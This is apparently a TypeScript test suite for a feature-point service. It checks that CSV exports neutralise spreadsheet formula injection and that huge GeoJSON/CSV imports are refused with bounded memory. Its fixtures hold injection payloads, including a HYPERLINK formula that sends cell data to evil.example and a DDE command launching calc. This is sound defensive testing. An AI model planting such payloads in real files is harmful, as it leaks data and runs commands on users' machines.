/**
 * Hostile feature-point files. Names and notes built to run as spreadsheet formulas (`=HYPERLINK`,
 * `=cmd|…`, `@`, `+`, `-`, a leading tab or CR) come out of the CSV export with a quote in front,
 * while negative coordinates stay numbers, and importing the export again gives the same points.
 * Files of hundreds of thousands of rows or features are refused for their count with a 400 naming
 * the limit, with a short answer, nothing stored and the server's heap bounded (the test server
 * runs in this process), and the server goes on answering. A file of many bad rows within the limit
 * lists only the first problems and counts the rest.
 */
import { afterAll, describe, expect, it } from 'vitest';
import type {
  FeatureExportFile,
  FeatureImportRefusal,
  FeatureImportResult,
  FeaturePoint,
} from '../../protocol/featurePoints.ts';
import { FEATURE_API, FEATURE_IMPORT_MAX } from '../../protocol/featurePoints.ts';
import type { Envelope, Page } from '../../protocol/http.ts';
import { parseCsv } from '../../server/csv/csvReader.ts';
import {
  IMPORT_OFF_THREAD_CHARS,
  importReader,
} from '../../server/http/featurePoints/importOffThread.ts';
import { PROBLEMS_LISTED } from '../../server/http/featurePoints/importRows.ts';
import { backends } from './helpers/backends.ts';
import { useSeededServer } from './helpers/seededServer.ts';

const MB = 1024 * 1024;
const HEADER = 'name,category,longitude,latitude,height,classes,notes';
const MAX = String(FEATURE_IMPORT_MAX);

/** Points whose texts a spreadsheet would run as formulas; the first lies west and south. */
const HOSTILE = [
  {
    name: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    category: '@SUM(1+1)',
    longitude: -122.5,
    latitude: -33.9,
    classes: ['-smoke'],
    notes: "=cmd|'/c calc'!A0",
  },
  {
    name: '+1+1',
    category: '-tower',
    longitude: 113.9,
    latitude: 22.5,
    classes: [],
    notes: '\t=1+1',
  },
  {
    name: '-2+3',
    category: 'ok',
    longitude: 113.91,
    latitude: 22.51,
    classes: [],
    notes: '\r=2+2',
  },
];

/** A CSV cell as a file written by hand holds it (quoted when it must be), nothing defused. */
const raw = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

// What is checked here does not depend on the database, so one back end is enough.
describe.each(backends.slice(0, 1))('hostile feature-point files on $name', (backend) => {
  const world = useSeededServer(backend);

  /** An import as the console sends it, with the answer's text (its size is checked). */
  async function importText(format: 'csv' | 'geojson', text: string, workspace = world.s.home) {
    const response = await fetch(new URL(FEATURE_API.import, world.server.url), {
      method: 'POST',
      headers: {
        authorization: `Bearer ${world.s.admin}`,
        'content-type': 'application/json',
        'accept-language': 'en',
      },
      body: JSON.stringify({ workspace_id: workspace, format, text }),
    });
    const answer = await response.text();
    return {
      status: response.status,
      size: answer.length,
      body: JSON.parse(answer) as Envelope<FeatureImportRefusal & FeatureImportResult>,
    };
  }
  const pointsIn = async (workspace: number) =>
    (
      await world.server.call<Page<FeaturePoint>>('GET', FEATURE_API.list, {
        token: world.s.admin,
        query: { workspace_id: workspace, size: 100 },
      })
    ).body.data;
  const exportCsv = async (workspace: number) => {
    const file = await world.server.call<FeatureExportFile>('GET', FEATURE_API.export, {
      token: world.s.admin,
      query: { workspace_id: workspace, format: 'csv' },
    });
    expect(file.status).toBe(200);
    return file.body.data.text;
  };

  // First in the suite: the peak resident size is a high-water mark, which an earlier test could
  // already have raised past what this one would show.
  it('keeps its memory bounded on a million features, and answers meanwhile and afterwards', async () => {
    const text = `{"type":"FeatureCollection","features":[${Array(1_000_000).fill('{}').join(',')}]}`;
    const heapBefore = process.memoryUsage().heapUsed;
    const peakBefore = process.resourceUsage().maxRSS * 1024;
    const [refused, list] = await Promise.all([
      importText('geojson', text),
      world.server.call('GET', FEATURE_API.list, { token: world.s.operator }),
    ]);
    // Parsing every feature and listing a problem for each, as the server once did, raised the
    // peak by some 800 MB and left over 250 MB on the heap here.
    expect(process.resourceUsage().maxRSS * 1024 - peakBefore).toBeLessThan(300 * MB);
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(100 * MB);
    expect(refused.status).toBe(400);
    expect(refused.body.msg).toContain(`more than ${MAX} points`);
    expect(list.status).toBe(200);
    const after = await world.server.call('GET', FEATURE_API.list, { token: world.s.operator });
    expect(after.status).toBe(200);
  });

  it('exports formula-like texts with a quote in front, numbers as numbers, and reads them back', async () => {
    const csv = [
      HEADER,
      ...HOSTILE.map((p) =>
        [p.name, p.category, p.longitude, p.latitude, 50, p.classes.join(';'), p.notes]
          .map((v) => raw(String(v)))
          .join(','),
      ),
    ].join('\n');
    expect((await importText('csv', csv)).status).toBe(200);
    const geo = {
      type: 'FeatureCollection',
      features: [
        {
          type: 'Feature',
          geometry: { type: 'Point', coordinates: [113.92, 22.52, 30] },
          properties: { name: '@geo', notes: '=1+1' },
        },
      ],
    };
    expect((await importText('geojson', JSON.stringify(geo))).status).toBe(200);

    const text = await exportCsv(world.s.home);
    const [header, ...rows] = parseCsv(text);
    const column = (name: string) => header?.cells.indexOf(name) ?? -1;
    const cellsOf = (name: string) => rows.find((r) => r.cells[column('name')] === name)?.cells;
    for (const p of HOSTILE) {
      const cells = cellsOf(`'${p.name}`);
      expect(cells, p.name).toBeDefined();
      expect(cells?.[column('category')]).toBe(p.category === 'ok' ? 'ok' : `'${p.category}`);
      expect(cells?.[column('notes')]).toBe(`'${p.notes}`);
      expect(cells?.[column('longitude')]).toBe(String(p.longitude));
    }
    expect(cellsOf("'@geo")?.[column('notes')]).toBe("'=1+1");
    expect(cellsOf(`'${HOSTILE[0]?.name ?? ''}`)?.[column('classes')]).toBe("'-smoke");
    // A number our code writes is written bare: a spreadsheet reads it as the number it is.
    expect(text).toContain(',-122.5,-33.9,');
    for (const row of rows)
      for (const cell of row.cells) expect(cell, cell).not.toMatch(/^[\t\r]*[=+@]/);

    // Importing the export into the other project gives back the very texts.
    expect((await importText('csv', text, world.s.other)).status).toBe(200);
    const copies = (await pointsIn(world.s.other)).data;
    for (const p of [...HOSTILE, { name: '@geo', notes: '=1+1' }])
      expect(copies.find((c) => c.name === p.name)).toMatchObject(p);
  });

  it('refuses a GeoJSON of 300 000 empty features at the limit, with a short answer', async () => {
    const before = (await pointsIn(world.s.home)).total;
    const text = `{"type":"FeatureCollection","features":[${Array(300_000).fill('{}').join(',')}]}`;
    const refused = await importText('geojson', text);
    expect(refused.status).toBe(400);
    expect(refused.body.msg).toContain(`more than ${MAX} points`);
    expect(refused.body.data.problems).toHaveLength(1);
    expect(refused.body.data.problem_total).toBe(1);
    expect(refused.size).toBeLessThan(64 * 1024);
    expect((await pointsIn(world.s.home)).total).toBe(before);
  });

  it('refuses a CSV of 200 000 bad rows at the limit, with a short answer', async () => {
    const before = (await pointsIn(world.s.home)).total;
    const text = [HEADER, ...Array<string>(200_000).fill(',,,95,,,')].join('\n');
    const refused = await importText('csv', text);
    expect(refused.status).toBe(400);
    expect(refused.body.msg).toContain(`more than ${MAX} points`);
    expect(refused.size).toBeLessThan(64 * 1024);
    expect((await pointsIn(world.s.home)).total).toBe(before);
  });

  it('lists the first problems of many bad rows within the limit and counts the rest', async () => {
    const text = [HEADER, ...Array<string>(FEATURE_IMPORT_MAX).fill('x,,1,95,50,,')].join('\n');
    const refused = await importText('csv', text);
    expect(refused.status).toBe(400);
    expect(refused.body.data.problems).toHaveLength(PROBLEMS_LISTED);
    expect(refused.body.data.problems[0]).toMatchObject({ line: 2, field: 'latitude' });
    expect(refused.body.data.problem_total).toBe(FEATURE_IMPORT_MAX);
    const lines = refused.body.msg.split('\n');
    expect(lines[0]).toBe(`Import refused: ${MAX} bad row(s), nothing was imported`);
    expect(lines).toHaveLength(PROBLEMS_LISTED + 2);
    expect(lines.at(-1)).toBe(
      `… ${String(FEATURE_IMPORT_MAX - PROBLEMS_LISTED)} more problem(s) not listed (${MAX} in all)`,
    );
    expect(refused.size).toBeLessThan(64 * 1024);
  });

  it('imports a full file of the largest size read on the thread', async () => {
    const row = (i: number) =>
      `p${String(i)},bulk,${String(113 + i / 1e4)},22.5,50,,${'n'.repeat(40)}`;
    const rows = Array.from({ length: FEATURE_IMPORT_MAX }, (_, i) => row(i));
    const text = [HEADER, ...rows].join('\n');
    expect(text.length).toBeGreaterThan(IMPORT_OFF_THREAD_CHARS);
    const imported = await importText('csv', text, world.s.other);
    expect(imported.status).toBe(200);
    expect(imported.body.data.imported).toBe(FEATURE_IMPORT_MAX);
    const tooMany = await importText('csv', `${text}\n${row(FEATURE_IMPORT_MAX)}`, world.s.other);
    expect(tooMany.status).toBe(400);
    expect(tooMany.body.msg).toContain(`at most ${MAX} points per import`);
  });
});

describe('the import thread', () => {
  // A small heap, and every file handed over.
  const read = importReader({ memoryMb: 64, timeoutMs: 60_000, idleMs: 1_000 }, 0);
  afterAll(async () => {
    // Let the idle thread end so the run does not wait on it.
    await new Promise((resolve) => setTimeout(resolve, 1_100));
  });

  it('turns a file that outgrows the thread’s heap into a refusal naming the memory limit', async () => {
    // The thread itself starts and reads a file within its heap.
    const small = 'name,longitude,latitude,height\nA,1,2,3';
    expect((await read({ format: 'csv', text: small, lang: 'en' })).points).toHaveLength(1);
    // One feature, within every count, whose properties hold 1.5 million objects (3 MB of text).
    const junk = Array(1_500_000).fill('{}').join(',');
    const text = `{"type":"FeatureCollection","features":[{"type":"Feature","geometry":{"type":"Point","coordinates":[1,2,3]},"properties":{"name":"a","junk":[${junk}]}}]}`;
    const reading = await read({ format: 'geojson', text, lang: 'en' });
    expect(reading.points).toEqual([]);
    expect(reading.problems.map((p) => p.message)).toEqual([
      'the file is too complex: reading it needs more than 64 MB of memory (the memory limit)',
    ]);
  });
});
